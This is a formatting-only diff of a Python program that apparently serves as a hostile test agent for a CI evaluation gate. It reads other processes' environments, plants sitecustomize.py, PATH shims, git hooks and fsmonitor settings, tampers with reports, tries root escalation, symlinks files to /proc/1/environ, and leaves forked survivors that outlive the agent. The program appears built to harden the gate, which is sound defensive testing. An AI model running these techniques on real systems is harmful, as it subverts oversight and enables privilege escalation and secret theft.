@@ -1,7 +1,8 @@
-"""An agent of a pull request that attacks: it answers wrongly, and tells in its answers what it could get and do.
+"""An agent of a pull request that attacks: it answers wrongly, and tells in its answers what it
+could get and do.
 
-A program of the change (`command: python3 agent.py`), standard library only. Everything runs before the first answer.
-"""
+A program of the change (`command: python3 agent.py`), standard library only. Everything runs before
+the first answer."""
 
 import contextlib
 import ctypes
@@ -53,11 +54,18 @@ def everybodys_proc():
         if int(pid) == os.getpid():
             continue
         for name in ("environ", "cmdline", "mem", "auxv", "stack"):
-            with contextlib.suppress(OSError, ValueError, OverflowError), open(f"/proc/{pid}/{name}", "rb") as file:
+            with (
+                contextlib.suppress(OSError, ValueError, OverflowError),
+                open(f"/proc/{pid}/{name}", "rb") as file,
+            ):
                 if MARK in file.read(READ_MOST):
                     found.append(f"{pid}/{name}")
         with contextlib.suppress(OSError):
-            found += [f"{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd") if os.stat(f"/proc/{pid}").st_uid == 0]
+            found += [
+                f"{pid}/fd/{fd}"
+                for fd in os.listdir(f"/proc/{pid}/fd")
+                if os.stat(f"/proc/{pid}").st_uid == 0
+            ]
         with contextlib.suppress(OSError):
             os.listdir(f"/proc/{pid}/root/github/file_commands")
             found.append(f"{pid}/root")
@@ -97,7 +105,10 @@ def command_files():
 
 
 def command_files_by_name():
-    return tried(write, [COMMANDS + name for name in ("set_output_1", "set_env_1", "add_path_1", "step_summary_1")])
+    return tried(
+        write,
+        [COMMANDS + name for name in ("set_output_1", "set_env_1", "add_path_1", "step_summary_1")],
+    )
 
 
 def tried(act, paths):
@@ -111,38 +122,75 @@ def tried(act, paths):
 
 def gate_modules():
     """What the gate imports later, its bytecode, its interpreter's start, its libraries."""
-    roots = ("/opt/evalgate", "/usr/lib/python3*", "/usr/local/lib/python3*", "/usr/lib/*-linux-gnu")
+    roots = (
+        "/opt/evalgate",
+        "/usr/lib/python3*",
+        "/usr/local/lib/python3*",
+        "/usr/lib/*-linux-gnu",
+    )
     done = []
     for root in roots:
         for folder in glob.glob(root):
             for where, _, files in os.walk(folder):
                 done += tried(
-                    write, [os.path.join(where, name) for name in files[:40] if name.endswith((".py", ".pyc"))]
+                    write,
+                    [
+                        os.path.join(where, name)
+                        for name in files[:40]
+                        if name.endswith((".py", ".pyc"))
+                    ],
                 )
-                done += tried(lambda path: write(path, "import os", "w"), [os.path.join(where, "sitecustomize.py")])
+                done += tried(
+                    lambda path: write(path, "import os", "w"),
+                    [os.path.join(where, "sitecustomize.py")],
+                )
     return done
 
 
 def path_shims():
-    """Programs that the gate starts, in every folder that it may look in, and git's settings of its HOME."""
-    folders = [*os.environ["PATH"].split(":"), "/usr/local/sbin", "/sbin", "/bin", "/opt/evalgate/bin"]
+    """Programs that the gate starts, in every folder that it may look in, and git's settings of its
+    HOME."""
+    folders = [
+        *os.environ["PATH"].split(":"),
+        "/usr/local/sbin",
+        "/sbin",
+        "/bin",
+        "/opt/evalgate/bin",
+    ]
     names = ("git", "uv", "setpriv", "prlimit", "cp", "chown", "chmod", "sh")
     text = f"#!/bin/sh\necho {TAMPERED} >> {COMMANDS}set_output_1\n"
-    homes = ("/github/home/.gitconfig", "/etc/gitconfig", "/root/.gitconfig", "/github/home/.config/git/config")
-    done = tried(lambda path: write(path, text, "w"), [f"{folder}/{name}" for folder in folders for name in names])
+    homes = (
+        "/github/home/.gitconfig",
+        "/etc/gitconfig",
+        "/root/.gitconfig",
+        "/github/home/.config/git/config",
+    )
+    done = tried(
+        lambda path: write(path, text, "w"),
+        [f"{folder}/{name}" for folder in folders for name in names],
+    )
     return done + tried(lambda path: write(path, f"[core]\nfsmonitor = {TAMPERED}\n", "w"), homes)
 
 
 def git_hooks():
     """Of the checkout, which steps after this one use, and of the gate's private repositories."""
-    places = ["/github/workspace/.git", *glob.glob("/github/**/bases/*/repository.git", recursive=True)]
+    places = [
+        "/github/workspace/.git",
+        *glob.glob("/github/**/bases/*/repository.git", recursive=True),
+    ]
     done = []
     for place in places:
         done += tried(
-            write, [f"{place}/hooks/{name}" for name in ("post-checkout", "pre-push", "reference-transaction")]
+            write,
+            [
+                f"{place}/hooks/{name}"
+                for name in ("post-checkout", "pre-push", "reference-transaction")
+            ],
         )
         done += tried(write, [f"{place}/config", f"{place}/info/attributes", f"{place}/HEAD"])
-    return done + tried(write, ["/github/workspace/.gitattributes", "/github/workspace/evalgate.yml"])
+    return done + tried(
+        write, ["/github/workspace/.gitattributes", "/github/workspace/evalgate.yml"]
+    )
 
 
 def caches_and_reports():
@@ -156,25 +204,39 @@ def caches_and_reports():
         "junit.xml",
     )
     done = tried(write, [f"/github/workspace/evalgate-report/{name}" for name in names])
-    caches = ("/github/workspace/.cache/evalgate", "/github/home/.cache/evalgate", "/var/cache/evalgate")
+    caches = (
+        "/github/workspace/.cache/evalgate",
+        "/github/home/.cache/evalgate",
+        "/var/cache/evalgate",
+    )
     for cache in caches:
         for where, _, files in os.walk(cache):
             done += tried(write, [os.path.join(where, name) for name in [*files, TAMPERED]])
     for own in ("base", "metrics", "head/../base"):
         done += tried(
-            write, [f"/var/lib/evalgate/{own}/{name}" for name in ("home/x", "installer/x", "tree/x", "granted/x")]
+            write,
+            [
+                f"/var/lib/evalgate/{own}/{name}"
+                for name in ("home/x", "installer/x", "tree/x", "granted/x")
+            ],
         )
-        done += tried(os.listdir, [f"/var/lib/evalgate/{own}/{name}" for name in (".", "home", "tree")])
+        done += tried(
+            os.listdir, [f"/var/lib/evalgate/{own}/{name}" for name in (".", "home", "tree")]
+        )
     return done
 
 
 def own_environment():
     """The installed packages, which metrics and other agents of this side use."""
-    return tried(write, [os.path.join(sys.prefix, "pyvenv.cfg"), json.__file__, os.path.join(sys.prefix, TAMPERED)])
+    return tried(
+        write,
+        [os.path.join(sys.prefix, "pyvenv.cfg"), json.__file__, os.path.join(sys.prefix, TAMPERED)],
+    )
 
 
 def shared_places():
-    """Where the base's code and the metrics may look for files of their own, under names that can be known."""
+    """Where the base's code and the metrics may look for files of their own, under names that can
+    be known."""
     places = ("/tmp", "/var/tmp", "/run", "/run/lock", "/dev/mqueue", "/dev")
     return tried(write, [f"{place}/{TAMPERED}" for place in places])
 
@@ -191,10 +253,19 @@ def others_killed():
 
 def privileges():
     """Root again: by setuid, by programs that are setuid, by new namespaces."""
-    done = tried(lambda act: act() or "uid 0", [lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.setgid(0)])
-    for command in (["su", "-c", "id -u"], ["mount", "--bind", "/tmp", "/github"], ["unshare", "-m", "true"]):
+    done = tried(
+        lambda act: act() or "uid 0",
+        [lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.setgid(0)],
+    )
+    for command in (
+        ["su", "-c", "id -u"],
+        ["mount", "--bind", "/tmp", "/github"],
+        ["unshare", "-m", "true"],
+    ):
         with contextlib.suppress(OSError, subprocess.TimeoutExpired):
-            ended = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10, check=False)
+            ended = subprocess.run(
+                command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10, check=False
+            )
             if ended.returncode == 0:
                 done.append(" ".join(command))
     return done
@@ -202,13 +273,20 @@ def privileges():
 
 def links():
     """Files that the gate may read or write as root, through links in what the agent may write."""
-    for name in ("requirements.txt", "pyproject.toml", "evalgate-report", ".env", "test_config.json"):
+    for name in (
+        "requirements.txt",
+        "pyproject.toml",
+        "evalgate-report",
+        ".env",
+        "test_config.json",
+    ):
         with contextlib.suppress(OSError):
             os.symlink("/proc/1/environ", name)
 
 
 def survivor():
-    """Goes on when the agent is gone: double fork, a session of its own, deaf to signals, many of it."""
+    """Goes on when the agent is gone: double fork, a session of its own, deaf to signals, many of
+    it."""
     if os.fork():
         return []
     os.setsid()
@@ -220,7 +298,12 @@ def survivor():
     for _ in range(8):
         if os.fork() == 0:
             while True:
-                for attack in (command_files, command_files_by_name, caches_and_reports, docker_socket):
+                for attack in (
+                    command_files,
+                    command_files_by_name,
+                    caches_and_reports,
+                    docker_socket,
+                ):
                     with contextlib.suppress(BaseException):
                         attack()
                 time.sleep(0.02)
@@ -228,8 +311,23 @@ def survivor():
 
 
 ATTACKS = (
-    *(docker_socket, everybodys_proc, trace_the_gate, read_everything, command_files, command_files_by_name),
-    *(gate_modules, path_shims, git_hooks, caches_and_reports, own_environment, shared_places, others_killed),
+    *(
+        docker_socket,
+        everybodys_proc,
+        trace_the_gate,
+        read_everything,
+        command_files,
+        command_files_by_name,
+    ),
+    *(
+        gate_modules,
+        path_shims,
+        git_hooks,
+        caches_and_reports,
+        own_environment,
+        shared_places,
+        others_killed,
+    ),
     *(privileges, links, survivor),
 )
 
@@ -249,12 +347,16 @@ def carry_out():
         file.write("a file of its own")
     ordinary = [sys.executable, "ordinary.py"]  # what is no attack must go on
     if os.path.exists(ordinary[1]):
-        ended = subprocess.run(ordinary, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False)
+        ended = subprocess.run(
+            ordinary, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False
+        )
         found["about"]["ordinary"] = ended.stdout + ended.stderr
     found["about"]["uid"] = os.getuid()
     found["about"]["groups"] = os.getgroups()
     with open("/proc/self/status") as file:
-        found["about"]["status"] = [line.strip() for line in file if line.startswith(("Cap", "NoNew"))]
+        found["about"]["status"] = [
+            line.strip() for line in file if line.startswith(("Cap", "NoNew"))
+        ]
     return found
 
 
